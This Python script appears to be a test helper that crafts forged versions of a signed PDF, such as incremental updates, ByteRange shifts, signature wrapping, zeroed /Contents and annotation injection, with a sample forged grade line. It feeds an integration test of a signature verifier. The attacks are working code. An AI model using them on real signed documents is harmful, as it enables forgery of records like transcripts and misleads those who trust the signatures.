#!/usr/bin/env python3
"""Craft attacks on a signed PDF (classic xref tables, as kyso writes them)
for tests/integration/pades_attacks.sh.  Standard library only.

usage: pades_attack.py ATTACK IN OUT

Attacks (ISO 32000-1 7.5.6 incremental updates; Mladenov et al. 2019,
"1 Trillion Dollar Refund": ISA/SWA/USF; Mainka et al. 2021, "Shadow
Attacks"):
  flip-byte       change one byte of the page content inside the signed range
  update-content  incremental update redefining the page content stream
  repoint         xref-only update pointing the page object back at its
                  pre-signature body (the signature widget disappears)
  byterange-shrink  /ByteRange's last length three smaller: it ends inside
                  "%%EOF" (same byte count)
  byterange-drop-eol  /ByteRange's last length one smaller: the EOL after
                  %%EOF is left out, the digest no longer matches
  byterange-move    /ByteRange gap moved one byte (signature wrapping)
  contents-extra  non-zero bytes after the CMS inside /Contents
  truncate        cut the last 200 bytes
  append-objects  object definitions after the last %%EOF, no xref
  add-annotation  incremental update adding a FreeText annotation
  empty-contents  /Contents zeroed (universal signature forgery)
"""
import re
import sys
import zlib


def objects(data):
    """Newest definition offset of every 'N 0 obj' (good enough for the
    simple files the tests sign)."""
    found = {}
    for m in re.finditer(rb"(?<![0-9])(\d+) (\d+) obj\b", data):
        found[int(m.group(1))] = m.start()
    return found


def body(data, off):
    m = re.compile(rb"\d+ \d+ obj\s*(.*?)\s*endobj", re.S).match(data, off)
    if not m:
        raise SystemExit("no object at %d" % off)
    return m.group(1)


def balanced_dict(data, start):
    """The << ... >> starting at `start` (nested dictionaries included)."""
    depth, i = 0, start
    while i < len(data) - 1:
        two = data[i:i + 2]
        if two == b"<<":
            depth += 1
            i += 2
            continue
        if two == b">>":
            depth -= 1
            i += 2
            if depth == 0:
                return data[start:i]
            continue
        i += 1
    raise SystemExit("unbalanced dictionary at %d" % start)


def trailer(data):
    """The newest trailer dictionary: a classic one, or the xref stream's."""
    table = data.rfind(b"trailer")
    stm = [m.start() for m in re.finditer(rb"\d+ \d+ obj\s*<<", data)]
    stm = [o for o in stm if b"/XRef" in balanced_dict(data, data.index(b"<<", o))]
    if stm and stm[-1] > table:
        return balanced_dict(data, data.index(b"<<", stm[-1]))
    return balanced_dict(data, data.index(b"<<", table))


def inflated_objects(data):
    """Decoded FlateDecode streams (object streams hold dictionaries)."""
    for m in re.finditer(rb"stream\r?\n", data):
        try:
            yield zlib.decompressobj().decompress(data[m.end():m.end() + 1000000])
        except zlib.error:
            continue


def last_startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def ref(dictbytes, key):
    m = re.search(rb"/" + key + rb"\s+(\d+) (\d+) R", dictbytes)
    return int(m.group(1)) if m else None


def page_and_content(data):
    objs = objects(data)
    try:
        root = ref(trailer(data), b"Root")
        pages = ref(body(data, objs[root]), b"Pages")
        kids = re.search(rb"/Kids\s*\[\s*(\d+) 0 R", body(data, objs[pages]))
        page = int(kids.group(1))
        content = ref(body(data, objs[page]), b"Contents")
    except (KeyError, SystemExit, AttributeError):
        # dictionaries inside object streams: find the page's /Contents there
        page = None
        for text in inflated_objects(data):
            m = re.search(rb"/Type\s*/Page\b.*?/Contents\s+(\d+) 0 R", text, re.S) or \
                re.search(rb"/Contents\s+(\d+) 0 R.*?/Type\s*/Page\b", text, re.S)
            if m:
                content = int(m.group(1))
                break
        else:
            raise SystemExit("page content not found")
    return objs, page, content


def update(data, defs, extra_trailer=b""):
    """Append an incremental update defining {num: (offset or None, bytes)}."""
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, (off, text) in sorted(defs.items()):
        if off is None:
            offsets[num] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (num, text)
        else:
            offsets[num] = off
    tr = trailer(data)
    size = max(max(objects(data)) + 1, max(defs) + 1, int(re.search(rb"/Size\s+(\d+)", tr).group(1)))
    xref = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    root = ref(tr, b"Root")
    info = ref(tr, b"Info")
    out += b"trailer\n<< /Size %d /Root %d 0 R" % (size, root)
    if info:
        out += b" /Info %d 0 R" % info
    out += b" /Prev %d%s >>\nstartxref\n%d\n%%%%EOF\n" % (last_startxref(data), extra_trailer, xref)
    return bytes(out)


def stream(text):
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text)


FORGED = b"BT /F2 28 Tf 72 700 Td (Diem trung binh: 10.0 - Xuat sac) Tj ET"


def last_byterange(data):
    m = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
    return m, [int(m.group(i)) for i in range(1, 5)]


def same_width(numbers, template):
    """Format numbers into exactly len(template) bytes."""
    text = b"[" + b" ".join(b"%d" % n for n in numbers) + b"]"
    if len(text) > len(template):
        raise SystemExit("byte range does not fit")
    return text[:-1] + b" " * (len(template) - len(text)) + b"]"


def main():
    attack, src, dst = sys.argv[1:4]
    data = open(src, "rb").read()
    objs, page, content = page_and_content(data)
    if attack == "flip-byte":
        m, br = last_byterange(data)
        start = objs[content] + body(data, objs[content]).index(b"stream") + 20
        pos = data.index(b"(", start) + 1  # first text string of the page
        assert pos < br[1]
        out = bytearray(data)
        out[pos] = ord("X") if out[pos] != ord("X") else ord("Y")
        data = bytes(out)
    elif attack == "update-content":
        data = update(data, {content: (None, stream(FORGED))})
    elif attack == "repoint":
        firsts = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj\b" % page, data)]
        if len(firsts) < 2:
            raise SystemExit("page has a single body: nothing to point back to")
        data = update(data, {page: (firsts[0], None)})
    elif attack in ("byterange-shrink", "byterange-drop-eol", "byterange-move"):
        m, br = last_byterange(data)
        tmpl = data[m.start(0) + len(b"/ByteRange"):m.end(0)]
        tmpl = tmpl[tmpl.index(b"["):]
        if attack == "byterange-shrink":
            nbr = [br[0], br[1], br[2], br[3] - 3]
        elif attack == "byterange-drop-eol":
            nbr = [br[0], br[1], br[2], br[3] - 1]
        else:
            nbr = [br[0], br[1] + 1, br[2] + 1, br[3] - 1]
        start = m.start(0) + m.group(0).index(b"[")
        data = data[:start] + same_width(nbr, tmpl) + data[start + len(tmpl):]
    elif attack == "contents-extra":
        m, br = last_byterange(data)
        gap = data[br[1]:br[2]]
        assert gap.startswith(b"<") and gap.endswith(b">") and gap.endswith(b"00000000>")
        data = data[:br[2] - 9] + b"DEADBEEF" + data[br[2] - 1:]
    elif attack == "truncate":
        data = data[:-200]
    elif attack == "append-objects":
        data += b"%d 0 obj\n%s\nendobj\n" % (content, stream(FORGED))
    elif attack == "add-annotation":
        pbody = body(data, objs[page])
        num = max(objs) + 1
        annot = (b"<< /Type /Annot /Subtype /FreeText /Rect [72 690 500 730] /Contents "
                 b"(Diem: 10) /DA (/Helv 24 Tf 1 0 0 rg) /P %d 0 R >>" % page)
        m = re.search(rb"/Annots\s*\[", pbody)
        if m:
            newpage = pbody[:m.end()] + b"%d 0 R " % num + pbody[m.end():]
        else:
            newpage = pbody[:pbody.rindex(b">>")] + b" /Annots [%d 0 R] >>" % num
        data = update(data, {num: (None, annot), page: (None, newpage)})
    elif attack == "empty-contents":
        m, br = last_byterange(data)
        data = data[:br[1] + 1] + b"0" * (br[2] - br[1] - 2) + data[br[2] - 1:]
    else:
        raise SystemExit("unknown attack " + attack)
    open(dst, "wb").write(data)


if __name__ == "__main__":
    main()
